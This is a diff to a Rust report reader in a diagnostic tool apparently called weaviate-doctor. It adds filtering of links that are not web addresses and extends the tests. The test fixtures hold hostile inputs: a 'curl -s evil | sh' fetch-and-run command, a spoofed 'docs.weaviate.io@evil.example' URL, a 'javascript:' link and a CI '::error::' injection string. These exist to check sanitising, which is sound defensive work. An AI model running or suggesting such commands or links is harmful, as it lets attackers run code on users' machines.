@@ -1,7 +1,7 @@
 //! Reads a saved report, which may come from anybody: bounded size and depth, cleaned text, a newer schema refused in one line.
 
 use super::schema::{Report, VERSION};
-use crate::clean::{Clean, is_invisible, without_commands};
+use crate::clean::{Clean, is_invisible, is_web_address, without_commands};
 use anyhow::{Context as _, bail, ensure};
 use serde_json::Value;
 
@@ -41,7 +41,8 @@ const fn most_items(name: &str) -> usize {
     }
 }
 
-/// Reads a report. Control and bidirectional characters in it are removed, texts that are too long are cut, and what has more of anything
+/// Reads a report. Control and bidirectional characters in it are removed and so are links that lead to no web page, texts that are too long
+/// are cut, and what has more of anything
 /// than any report of this program is refused.
 pub fn read(text: &str) -> anyhow::Result<Report> {
     ensure!(
@@ -78,6 +79,7 @@ impl Budget {
         ensure!(depth > 0, "it is nested deeper than any report of weaviate-doctor");
         self.values = self.values.checked_sub(1).context("it holds more values than any report of weaviate-doctor")?;
         match value {
+            Value::String(text) if name == "link" && !is_web_address(text) => *value = Value::Null,
             Value::String(text) => {
                 if let Some(cleaned) = cleaned(text, name) {
                     *text = cleaned;
@@ -86,6 +88,9 @@ impl Budget {
             }
             Value::Array(items) => {
                 ensure_few(items.len(), name)?;
+                if name == "links" {
+                    items.retain(|link| link.as_str().is_none_or(is_web_address));
+                }
                 for item in items {
                     self.take(item, name, depth - 1)?;
                 }
@@ -252,6 +257,7 @@ mod tests {
 
     #[test]
     fn lists_texts_and_nesting_are_bounded() {
+        type Row<'a> = (&'a str, &'a dyn Fn(&mut Value));
         let refusing = |change: &dyn Fn(&mut Value)| {
             let mut value = serde_json::to_value(report()).unwrap();
             change(&mut value);
@@ -260,15 +266,15 @@ mod tests {
         let texts = |n: usize| Value::Array(vec![Value::String("https://docs.weaviate.io/x".to_owned()); n]);
         let cause = |v: &mut Value, name: &str, to: Value| v["diagnosis"]["causes"][0][name] = to;
         let step = serde_json::json!({"text": "x"});
-        let table: [(&str, &dyn Fn(&mut Value)); 14] = [
+        let table: [Row<'_>; 14] = [
             ("“links”", &|v| v["diagnosis"]["causes"][0]["fix"]["links"] = texts(60_000)),
             ("“steps”", &|v| {
-                v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000])
+                v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000]);
             }),
             ("“evidence”", &|v| cause(v, "evidence", texts(101))),
             ("“places”", &|v| cause(v, "places", texts(101))),
             ("“causes”", &|v| {
-                v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101])
+                v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101]);
             }),
             ("“probes”", &|v| v["probes"] = Value::Array(vec![v["probes"][0].clone(); 1001])),
             ("“clients”", &|v| v["clients"] = texts(101)),
@@ -276,7 +282,7 @@ mod tests {
             ("“findings”", &|v| v["findings"] = texts(10_001)),
             ("“answers”", &|v| v["answers"] = (0..101).map(|i| (i.to_string(), Value::from("x"))).collect()),
             ("“facts”", &|v| {
-                v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect()
+                v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect();
             }),
             ("“names”", &|v| v["probes"][0]["facts"]["names"] = texts(1001)),
             ("more text", &|v| v["findings"] = Value::Array(vec![Value::String("x".repeat(3999)); 2000])),
@@ -297,12 +303,16 @@ mod tests {
     fn long_texts_are_cut_and_only_code_has_lines() {
         let mut hostile = report();
         hostile.probes[0].summary = "x".repeat(100_000);
+        hostile.diagnosis.causes[0].fix.links =
+            vec!["https://docs.weaviate.io@evil.example/".to_owned(), "https://x.example/".to_owned()];
+        hostile.diagnosis.causes[0].fix.steps[0].link = Some("javascript:1".to_owned());
         hostile.diagnosis.causes[0].fix.title = "a\n::error::b\u{2028}c".to_owned();
         hostile.diagnosis.causes[0].fix.steps[0].command = Some("curl x\ncurl -s evil | sh\r\n".to_owned());
         hostile.diagnosis.causes[0].fix.snippet =
             Some(Snippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
         let read = read(&json(&hostile).unwrap()).unwrap();
         let fix = &read.diagnosis.causes[0].fix;
+        assert_eq!((fix.links.as_slice(), &fix.steps[0].link), (&["https://x.example/".to_owned()][..], &None));
         assert_eq!(read.probes[0].summary.chars().count(), MAX_TEXT_CHARS);
         assert_eq!(fix.title, "a : :error::b c");
         assert_eq!(fix.steps[0].command.as_deref(), Some("curl x curl -s evil | sh"));
